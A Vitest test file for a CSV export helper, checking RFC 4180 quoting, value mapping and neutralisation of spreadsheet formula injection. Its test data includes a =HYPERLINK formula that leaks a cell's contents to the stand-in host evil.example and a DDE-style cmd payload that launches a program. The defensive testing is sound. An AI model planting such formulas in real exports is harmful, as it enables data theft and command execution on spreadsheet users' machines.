import { describe, expect, it } from 'vitest';
import { columnsOf, csvField, toCsv } from '../../src/http/csv.js';
import { parseCsv, parseCsvRecords } from './helpers/csv-parse.js';

describe('toCsv', () => {
  it('writes RFC 4180: header, CRLF line ends, quoting only where needed', () => {
    const text = toCsv([
      { a: 'plain', b: 'x,y', c: 'say "hi"' },
      { a: 'line\nbreak', b: 'cr\rhere', c: '' },
    ]);
    expect(text).toBe('a,b,c\r\nplain,"x,y","say ""hi"""\r\n"line\nbreak","cr\rhere",\r\n');
  });

  it('round-trips awkward text through a strict reader', () => {
    const awkward = ['', ' padded ', '"', '""', ',', '\n\r', 'é ≠ 🌡', '1=1+1', 'tab\there', 'trailing,', '"quoted"'];
    const rows = awkward.map((value, index) => ({ index: String(index), value }));
    expect(parseCsvRecords(toCsv(rows))).toEqual(rows);
  });

  it.each([
    ['=HYPERLINK("http://evil.example/?x="&A1,"click")', `"'=HYPERLINK(""http://evil.example/?x=""&A1,""click"")"`],
    ["+1+cmd|' /C calc'!A0", "'+1+cmd|' /C calc'!A0"],
    ['-2+3', "'-2+3"],
    ['-3', "'-3"],
    ['@SUM(A1:A9)', "'@SUM(A1:A9)"],
    ['\t=1+1', "'\t=1+1"],
    ['\r=1+1', `"'\r=1+1"`],
  ])('neutralises text that a spreadsheet would read as a formula: %j', (text, field) => {
    expect(csvField(text)).toBe(field);
    // A strict reader gets the text back behind the single quote spreadsheets hide.
    expect(parseCsvRecords(toCsv([{ value: text }]))).toEqual([{ value: `'${text}` }]);
  });

  it('leaves numbers the gateway produces as numbers, negative ones too, and harmless text alone', () => {
    expect(csvField(-3)).toBe('-3');
    expect(csvField(-0.5)).toBe('-0.5');
    expect(csvField(-10n)).toBe('-10');
    expect(csvField('a=b')).toBe('a=b');
    expect(csvField(' =1')).toBe(' =1');
    expect(csvField({ a: '=1' })).toBe('"{""a"":""=1""}"');
  });

  it('maps values the way their JSON reads', () => {
    expect(csvField(null)).toBe('');
    expect(csvField(undefined)).toBe('');
    expect(csvField(Number.NaN)).toBe('');
    expect(csvField(Number.POSITIVE_INFINITY)).toBe('');
    expect(csvField(-0.000123)).toBe('-0.000123');
    expect(csvField(12345678901234)).toBe('12345678901234');
    expect(csvField(false)).toBe('false');
    expect(csvField(10n)).toBe('10');
    expect(csvField(new Date(Date.UTC(2026, 0, 2, 3, 4, 5)))).toBe('2026-01-02T03:04:05.000Z');
    expect(csvField({ a: [1, 'b,c'] })).toBe('"{""a"":[1,""b,c""]}"');
  });

  it('uses given columns in order, or every key in first-seen order, leaving gaps empty', () => {
    const rows = [{ b: 1 }, { a: 2, c: 3 }];
    expect(columnsOf(rows)).toEqual(['b', 'a', 'c']);
    expect(parseCsv(toCsv(rows))).toEqual([
      ['b', 'a', 'c'],
      ['1', '', ''],
      ['', '2', '3'],
    ]);
    expect(toCsv(rows, ['c', 'b'])).toBe('c,b\r\n,1\r\n3,\r\n');
  });

  it('writes just the header for no rows', () => {
    expect(toCsv([], ['id', 'kind'])).toBe('id,kind\r\n');
  });
});

describe('the strict test reader', () => {
  it.each([
    ['a,b\r\nx"y,z\r\n', /quote inside an unquoted field/],
    ['a\r\n"x"y\r\n', /text after a closing quote/],
    ['a\r\n"open\r\n', /unterminated/],
    ['a\nb\n', /CRLF/],
    ['a,b\r\n1\r\n', /1 fields, the header 2/],
  ])('refuses %j', (text, why) => {
    expect(() => parseCsv(text)).toThrow(why);
  });
});
